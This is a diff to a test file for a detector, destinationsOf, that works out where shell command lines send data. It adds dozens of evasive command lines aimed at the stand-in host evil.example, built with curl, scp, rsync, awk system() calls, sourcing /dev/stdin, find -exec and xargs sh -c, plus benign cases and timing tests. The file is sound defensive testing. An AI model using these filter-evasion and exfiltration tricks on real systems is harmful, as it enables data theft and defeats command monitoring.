@@ -40,6 +40,14 @@ test.each(
     "ssh -W evil.example:80 ok.example",
     "noglob curl evil.example",
     "curl &>f evil.example",
+    "scp -qJ evil.example f ok.example:",
+    "scp f '[evil.example]:x'",
+    "git submodule foreach --recursive 'curl evil.example'",
+    "env -S'curl\\_evil.example'",
+    "env --split=curl evil.example",
+    "watch ls '; curl evil.example'",
+    "fd -tf -x curl evil.example",
+    'fd "$X" curl evil.example',
   ]),
 )("%j does not hide where it goes", (line) => {
   expect(destinationsOf(line)).toContain("evil.example");
@@ -79,12 +87,75 @@ test.each(
     "perl -e 'open F,\"|nc evil.example 80\"'",
     'curl "http://ok.example$X"',
     "curl http://ok.example/$X",
+    'curl "http://ok.example/${!V}"',
+    `curl "http://ok.example/\${${"A".repeat(100)}[@]}"`,
+    'find . "$X" curl evil.example \\;',
+    "find . $'-exec' curl evil.example \\;",
+    "find . {-exec,curl,evil.example} \\;",
+    "find . -type f -exe? curl evil.example \\;",
+    "scp f {evil,b}.example:x",
+    "scp {/x,evil.example:} f",
+    "scp f ev*:x",
+    "rsync f 16909060::evil",
+    "scp f ~evil.example:x",
+    'awk "$X"',
+    "awk $'BEGIN{sys\\x74em(1)}'",
+    "awk -F -F 'BEGIN{system(1)}'",
+    "awk 'BEGIN{print /\"/; print 1 | C}'",
+    "awk 'BEGIN{x = 1 + /#/; print 1 | C}'",
+    "awk 'BEGIN{y=/[/\"]/; print 1 | C; z=/[\"]/}'",
+    "awk 'BEGIN{system \\⏎(1)}'",
+    "awk -f /dev/./stdin",
+    "! . /dev/stdin <<< 'curl evil.example'",
+    "time . /dev/stdin <<< 'curl evil.example'",
+    "builtin . /dev/stdin <<< 'curl evil.example'",
+    "bash /dev/./stdin < f",
+    "bash //dev/stdin < f",
+    "bash /dev/stdi? < f",
+    "cd /dev; bash fd/0 < f",
+    "xargs -rI% sh -c '%'",
+    "nice -n 5 awk 'BEGIN{system(1)}'",
   ]),
 )("%j is told as one that cannot be read", (line) => {
   expect(destinationsOf(line).join()).toContain("unreadable:");
 });
 
-test.each(["npm pub", "git send-pack evil.example:r main", "docker buildx build --push ."])(
-  "%s sends to a place with a name of its own",
-  (line) => expect(destinationsOf(line)).toEqual([expect.stringContaining(`${line.split(" ")[0]}:`)]),
+test.each(
+  lines([
+    'xargs -I{} mv {} "{}.bak"',
+    "xargs -n1 -I{} rm {}",
+    "xargs -I% cp % d",
+    "fd -e ts -x wc -l {}",
+    "sudo -E make $T",
+    "stdbuf -oL grep $P f",
+    'find . -name "*.ts" -mtime -$N',
+    'find "$DIR" -type f -name "$P" -exec grep "$X" {} +',
+    'find src/* -newer "$F" -exec sed -i s/a/b/ {} \\;',
+    "find {src,test} -name '*.ts' -exec wc -l {} +",
+    "awk '!/^#/ && /a|b/' f",
+    "awk '{print $1/1024 \" | \" $2/1024}' f",
+    "awk -F'|' '{print $2}' f",
+    "git submodule foreach git status",
+    "bash scripts/*.sh",
+    "scp a.js b.js dist/",
+  ]),
+)("%j is no doubt", (line) => expect(destinationsOf(line)).toEqual([]));
+
+test.each(['"\\', "(/\\", "\n", "/x", "system ", "@ ", "open "])(
+  "code of %j again and again is read in one pass",
+  (text) => {
+    const began = performance.now();
+    for (const program of ["awk", "perl -e"]) destinationsOf(`${program} '${text.repeat(120_000 / text.length)}'`);
+    expect(performance.now() - began).toBeLessThan(1_500);
+  },
+);
+
+test.each([
+  "npm pub",
+  "git --attr-source stash push evil.example:x",
+  "git --unknown stash push evil.example:x",
+  "git send-pack evil.example:r main",
+  "docker buildx build --push .",
+])("%s sends to a place with a name of its own", (line) =>
+  expect(destinationsOf(line)).toEqual([expect.stringContaining(`${line.split(" ")[0]}:`)]),
 );
